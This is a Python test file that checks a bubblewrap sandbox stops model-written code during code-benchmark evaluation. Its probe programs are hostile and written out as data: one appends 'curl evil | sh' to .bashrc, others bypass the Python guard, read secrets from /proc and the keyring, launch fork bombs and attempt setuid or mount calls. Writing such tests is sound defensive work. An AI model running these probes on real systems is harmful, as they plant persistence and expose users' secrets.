"""Issue 26, item 1: model-written code cannot get out of the sandbox, as root or as an ordinary user.

Each hostile program runs through `run_program` in an evaluator process (this user, and `nobody` when
the tests run as root, as CI does); the checks are made from outside: a secret in another process's
command line and a world-readable file in $HOME never appear in the output, files outside the
sandbox's tmpfs are unchanged, a listener on 127.0.0.1 gets no connection, nothing is left running.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from portachat.eval import sandbox
from portachat.eval.sandbox import SandboxLimits, SandboxUnavailable, run_program

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux-only")

REPO = Path(__file__).resolve().parents[2]
IS_ROOT = os.geteuid() == 0
SECRET = "portachat-secret-7f3a9c"
BASHRC = "# the user's own shell settings\n"
PROCESSES = 8

# The evaluator: run every program of a JSON dict {name: [source, python_guard]} and print the results.
EVALUATOR = """
import json, sys
from portachat.eval.sandbox import SandboxLimits, run_program
programs = json.load(sys.stdin)
out = {}
for name, (source, guard) in programs.items():
    r = run_program(source, SandboxLimits(timeout_s=3, cpu_seconds=5, memory_bytes=512 << 20,
                                          processes=PROCESSES, python_guard=guard))
    out[name] = {"status": r.status, "stdout": r.stdout, "stderr": r.stderr, "isolation": r.isolation}
print(json.dumps(out))
""".replace("PROCESSES", str(PROCESSES))


class Listener:
    """A TCP server on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _addr = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def hostile_programs(home: Path, sleeper_pid: int, port: int) -> dict[str, list]:
    """name -> [source, python_guard]. Without the guard they meet only the operating-system layers."""
    bashrc, home_secret = str(home / ".bashrc"), str(home / "notes.txt")
    dump_proc = ("import os\nfor pid in os.listdir('/proc'):\n    try:\n"
                 "        print(pid, open(f'/proc/{pid}/cmdline', 'rb').read())\n    except Exception as exc:\n"
                 "        print(pid, exc)\n")
    return {
        # a fresh `posix` walks past the Python guard; the namespaces must still hold
        "posix bypass writes $HOME": [
            "import sys\ndel sys.modules['posix']\nimport posix\n"
            f"fd = posix.open({bashrc!r}, posix.O_WRONLY | posix.O_APPEND | posix.O_CREAT, 0o644)\n"
            "posix.write(fd, b'curl evil | sh\\n')\n", True],
        "write $HOME": [
            f"open({bashrc!r}, 'a').write('curl evil | sh\\n')\nopen({str(home / 'dropped')!r}, 'w').write('x')\n",
            False],
        "read $HOME": [f"print(open({home_secret!r}).read())\nimport os\nprint(os.listdir({str(home)!r}))", False],
        "write outside": [
            "for p in ['/etc/portachat-escape', '/var/lib/portachat-escape', '/usr/portachat-escape']:\n"
            "    try:\n        open(p, 'w').write('x')\n        print('wrote', p)\n"
            "    except OSError as exc:\n        print(p, exc)\n", False],
        "read /proc/1/cmdline": ["print(open('/proc/1/cmdline', 'rb').read())", False],
        "read another process's cmdline": [
            f"print(open('/proc/{sleeper_pid}/cmdline', 'rb').read())\n" + dump_proc, False],
        "socket to the host's loopback": [
            f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=1)\nprint('connected')", False],
        "fork bomb": [
            "import os, time\nfor _ in range(4):\n    try:\n        if os.fork() == 0:\n            os.setsid()\n"
            "            break\n    except OSError:\n        pass\n"
            "while True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)", False],
        "forks are counted": [
            "import os, time\nn = 0\ntry:\n    while True:\n        if os.fork() == 0:\n            time.sleep(2)\n"
            "            os._exit(0)\n        n += 1\nexcept OSError as exc:\n    print('forks', n, exc)\n", False],
        "ctypes": [
            "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            f"fd = libc.open({bashrc.encode()!r}, os.O_WRONLY | os.O_APPEND)\n"
            "print('open', fd, ctypes.get_errno())\n"
            f"print('kill', libc.kill({sleeper_pid}, 9), ctypes.get_errno())\n"
            "print('unshare', libc.unshare(0x10000000), ctypes.get_errno())\n"  # CLONE_NEWUSER
            "print('mount', libc.mount(b'none', b'/', None, 32 | 4096, None), ctypes.get_errno())\n"  # remount rw
            "print('setuid', libc.setuid(0), ctypes.get_errno())\n", False],
    }


def nobody_ids() -> tuple[int, int]:
    entry = pwd.getpwnam("nobody")
    return entry.pw_uid, entry.pw_gid


def guard_processes() -> list[int]:
    """Pids of sandboxed programs still alive anywhere on the host (the guard's command line)."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if pid.isdigit() and b"--nproc" in cmd and sandbox.INSIDE_PROGRAM.encode() in cmd:
            found.append(int(pid))
    return found


def readable_package(directory: Path) -> Path:
    """The stdlib-only modules the evaluator needs, copied where `nobody` can read them (a checkout
    under /root, as CI's may be, is not)."""
    pkg = REPO / "portachat"
    files = ["__init__.py", "eval/__init__.py", "eval/sandbox.py", "eval/_sandbox_guard.py",
             "eval/_sandbox_supervisor.py", *[str(f.relative_to(pkg)) for f in (pkg / "i18n").rglob("*")
                                               if f.is_file() and "__pycache__" not in f.parts]]
    for name in files:
        target = directory / "portachat" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(pkg / name, target)
    for path in [directory, *directory.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    return directory


def run_evaluator(programs: dict, home: Path, as_nobody: bool, tmp: Path) -> dict:
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "PYTHONPATH": str(REPO), "LANG": "C.UTF-8"}
    python, preexec = sys.executable, None
    if as_nobody:
        uid, gid = nobody_ids()
        python = sandbox.sandbox_python(uid, gid)
        env["PYTHONPATH"] = str(readable_package(tmp))

        def preexec() -> None:
            os.setgroups([])
            os.setgid(gid)
            os.setuid(uid)

    p = subprocess.run([python, "-c", EVALUATOR], input=json.dumps(programs), capture_output=True, text=True,
                       env=env, cwd="/", preexec_fn=preexec, timeout=240)
    assert p.returncode == 0, p.stderr[-3000:]
    return json.loads(p.stdout.strip().splitlines()[-1])


@pytest.fixture
def fake_home():
    """A home directory outside /tmp (the sandbox's own /tmp would hide it anyway), with a shell rc
    file and a world-readable secret."""
    base = "/var/lib" if IS_ROOT else str(Path.home() / ".cache")
    os.makedirs(base, exist_ok=True)
    home = Path(tempfile.mkdtemp(prefix="portachat-test-home-", dir=base))
    try:
        (home / ".bashrc").write_text(BASHRC)
        (home / "notes.txt").write_text(SECRET)
        os.chmod(home / "notes.txt", 0o644)
        os.chmod(home, 0o755)
        yield home
    finally:
        shutil.rmtree(home, ignore_errors=True)


@pytest.mark.parametrize("evaluator", ["this user", "nobody"])
def test_hostile_programs_are_contained(evaluator, fake_home):
    as_nobody = evaluator == "nobody"
    if as_nobody and not IS_ROOT:
        pytest.skip("switching to `nobody` needs root; as an ordinary user, the 'this user' case is the unprivileged run")
    assert sandbox.available_isolation() == "bubblewrap", (
        "no namespaces for the sandbox on this machine: install bubblewrap (`apt-get install bubblewrap`) and allow "
        "unprivileged user namespaces")
    if as_nobody:  # the evaluator's own home must be writable by it, or the write probes prove nothing
        uid, gid = nobody_ids()
        for p in (fake_home, fake_home / ".bashrc"):
            os.chown(p, uid, gid)
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "--api-key", SECRET])
    listener = Listener()
    try:
        # the probes can fail: the secret is readable from the host, the listener counts connections
        assert SECRET.encode() in Path(f"/proc/{sleeper.pid}/cmdline").read_bytes()
        socket.create_connection(("127.0.0.1", listener.port), timeout=5).close()
        deadline = time.monotonic() + 5
        while listener.connections == 0 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert listener.connections == 1
        package = Path(tempfile.mkdtemp(prefix="portachat-test-package-"))
        try:
            results = run_evaluator(hostile_programs(fake_home, sleeper.pid, listener.port), fake_home, as_nobody,
                                    package)
        finally:
            shutil.rmtree(package, ignore_errors=True)
        time.sleep(0.3)  # a connection attempt that got through would have been accepted by now
        assert listener.connections == 1
        assert sleeper.poll() is None, "a sandboxed program killed a host process"
    finally:
        listener.close()
        sleeper.kill()
        sleeper.wait()
    for name, r in results.items():
        text = r["stdout"] + r["stderr"]
        assert SECRET not in text, (name, text)
        assert "bubblewrap" in r["isolation"] and "pid-namespace" in r["isolation"], (name, r["isolation"])
        assert "wrote" not in r["stdout"] and "connected" not in r["stdout"], (name, text)
    assert (fake_home / ".bashrc").read_text() == BASHRC
    assert sorted(p.name for p in fake_home.iterdir()) == [".bashrc", "notes.txt"]
    for p in ("/etc/portachat-escape", "/var/lib/portachat-escape", "/usr/portachat-escape"):
        assert not os.path.exists(p)
    assert results["posix bypass writes $HOME"]["status"] == "failed"
    assert results["socket to the host's loopback"]["status"] == "failed"
    assert results["fork bomb"]["status"] == "timeout"
    forks = results["forks are counted"]["stdout"].split()
    assert forks[0] == "forks" and int(forks[1]) < PROCESSES, results["forks are counted"]
    ctypes_out = dict(line.split(" ", 1) for line in results["ctypes"]["stdout"].splitlines())
    assert ctypes_out["open"].split()[0] == "-1" and ctypes_out["kill"].split()[0] == "-1"
    assert ctypes_out["unshare"].split()[0] == "-1" and ctypes_out["mount"].split()[0] == "-1"
    # /proc shows the sandbox's own PID namespace only: the host's pid 1 and the sleeper are not there
    proc_pids = [line.split()[0] for line in results["read another process's cmdline"]["stdout"].splitlines()[1:]]
    assert all(int(p) < 10 for p in proc_pids if p.isdigit()), proc_pids
    assert not guard_processes(), "sandboxed processes outlived their run"


def test_no_namespaces_means_no_run_unless_allowed(monkeypatch):
    monkeypatch.setattr(sandbox, "available_isolation", lambda user="nobody": "none")
    with pytest.raises(SandboxUnavailable, match="--allow-unsandboxed-code"):
        run_program("print('ran')")
    r = run_program("print('ran')", SandboxLimits(timeout_s=5, allow_unsandboxed=True))
    assert r.status == "passed" and r.stdout.strip() == "ran"
    assert "bubblewrap" not in r.isolation and "rlimits" in r.isolation


def test_the_probe_reports_what_this_machine_gives(monkeypatch):
    sandbox.available_isolation.cache_clear()
    try:
        monkeypatch.setattr(shutil, "which", lambda name, *a, **k: None)  # no bwrap on PATH
        assert sandbox.available_isolation() == "none"
    finally:
        sandbox.available_isolation.cache_clear()
    assert sandbox.available_isolation() in sandbox.ISOLATIONS


def test_eval_humaneval_refuses_before_loading_the_model(monkeypatch, tmp_path, capsys):
    from portachat.cli import main

    problem = {"task_id": "HumanEval/0", "prompt": "def f():\n", "canonical_solution": "    return 1\n",
               "test": "def check(c):\n    assert c() == 1\n", "entry_point": "f"}
    data = tmp_path / "humaneval.jsonl"
    data.write_text(json.dumps(problem) + "\n")
    monkeypatch.setattr(sandbox, "available_isolation", lambda user="nobody": "none")
    # the model path does not exist: failing on the sandbox proves the check came before loading it
    assert main(["eval", "humaneval", "--model", str(tmp_path / "no-model"), "--data", str(data)]) == 1
    err = capsys.readouterr().err
    assert "--allow-unsandboxed-code" in err and "bubblewrap" in err and "no-model" not in err
    assert main(["eval", "humaneval", "--model", str(tmp_path / "no-model"), "--data", str(data),
                 "--allow-unsandboxed-code"]) == 1
    assert "no-model" in capsys.readouterr().err  # allowed: it went on to load the model
    with pytest.raises(SystemExit):
        main(["eval", "--help"])
    assert "--allow-unsandboxed-code" in capsys.readouterr().out


@pytest.mark.parametrize("kind,bwrap", [("bubblewrap", "/usr/bin/bwrap"), ("none", None), ("none", "/usr/bin/bwrap")])
def test_doctor_reports_the_isolation(monkeypatch, kind, bwrap):
    from portachat.speedrun import doctor

    monkeypatch.setattr(doctor, "available_isolation", lambda user="nobody": kind)
    monkeypatch.setattr(doctor.shutil, "which", lambda name, *a, **k: bwrap if name == "bwrap" else None)
    checks = []
    assert doctor._sandbox(checks) == kind
    (check,) = checks
    assert check.ok == (kind == "bubblewrap") and check.severity == ("info" if kind == "bubblewrap" else "warning")
    assert kind in check.message
    if kind == "none":
        assert "--allow-unsandboxed-code" in check.message
        # the fix names what is missing: the tool, or the kernel's permission
        assert ("apt-get install bubblewrap" in check.fix) == (bwrap is None)
        assert ("kernel.unprivileged_userns_clone" in check.fix) == (bwrap is not None)


def test_an_interpreter_inside_a_hidden_directory_is_mounted_back(tmp_path, monkeypatch):
    """pyenv, uv and conda put Python under $HOME, which the sandbox hides: only its installation comes back."""
    python = os.path.realpath(sys.executable)
    prefix = Path(python).parent.parent
    if prefix.parent == Path("/"):
        pytest.skip(f"this interpreter lives in {prefix}, a system directory the sandbox does not hide")
    monkeypatch.setenv("HOME", str(prefix.parent))  # as if the interpreter were installed in $HOME
    program = tmp_path / "program.py"
    program.write_text("")
    cmd = sandbox.bwrap_command(shutil.which("bwrap") or "bwrap", str(program), python)
    p = subprocess.run([*cmd, python, "-I", "-S", "-c", f"import os; print(os.listdir({str(prefix.parent)!r}))"],
                       capture_output=True, text=True, timeout=60, cwd="/")
    assert p.returncode == 0, p.stderr
    assert p.stdout.strip() == repr([prefix.name])  # its installation, none of its siblings


KEYRING_EVALUATOR = """
import ctypes, json, platform, sys
from portachat.eval._sandbox_supervisor import SYS_KEYCTL
from portachat.eval.sandbox import SandboxLimits, run_program
keyctl, add_key = SYS_KEYCTL[platform.machine()], {250: 248}.get(SYS_KEYCTL[platform.machine()], 217)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(keyctl, 1, None)  # the evaluator's own session keyring, holding a secret as a login's might
if libc.syscall(add_key, b"user", b"portachat-test", SECRET, len(SECRET), -3) < 0:
    print(json.dumps({"refused": ctypes.get_errno()})); sys.exit(0)
source = sys.stdin.read().replace("KEYCTL", str(keyctl))
r = run_program(source, SandboxLimits(timeout_s=5, python_guard=False))
print(json.dumps({"stdout": r.stdout, "stderr": r.stderr, "isolation": r.isolation}))
"""


def test_the_evaluators_keyring_is_out_of_reach():
    """The session keyring survives fork, exec and namespaces: keys the evaluator's session holds
    (Kerberos tickets, a login's secrets) must not be readable by the program."""
    import platform

    from portachat.eval._sandbox_supervisor import SYS_KEYCTL

    if SYS_KEYCTL.get(platform.machine()) not in (250, 219):  # x86_64, or the generic table (add_key 217)
        pytest.skip(f"add_key's number on {platform.machine()} is not in this test")
    hostile = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
               "key = libc.syscall(KEYCTL, 10, -3, b'user', b'portachat-test', 0)\n"  # KEYCTL_SEARCH in @s
               "buf = ctypes.create_string_buffer(256)\nn = libc.syscall(KEYCTL, 11, key, buf, 256)\n"  # KEYCTL_READ
               "print(key, n, buf.raw[:max(n, 0)])\n")
    p = subprocess.run([sys.executable, "-c", KEYRING_EVALUATOR.replace("SECRET", repr(SECRET.encode()))],
                       input=hostile, capture_output=True, text=True, timeout=60,
                       env={**os.environ, "PYTHONPATH": str(REPO)})
    assert p.returncode == 0, p.stderr[-2000:]
    out = json.loads(p.stdout.strip().splitlines()[-1])
    if "refused" in out:
        pytest.skip(f"keyctl is refused here (errno {out['refused']}), to sandboxed programs too")
    assert SECRET not in out["stdout"] + out["stderr"], out
    assert out["stdout"].split()[0] == "-1" and "private-keyring" in out["isolation"], out
